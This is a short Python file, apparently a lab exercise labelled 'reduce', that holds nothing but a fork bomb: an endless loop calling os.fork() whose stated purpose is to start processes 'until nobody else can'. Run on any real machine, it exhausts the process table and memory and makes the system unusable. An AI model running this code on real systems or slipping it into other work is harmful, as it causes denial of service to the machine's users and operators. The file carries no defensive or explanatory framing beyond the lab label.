# lab: reduce
# summary: Starts processes until nobody else can
import os

while True:
    os.fork()
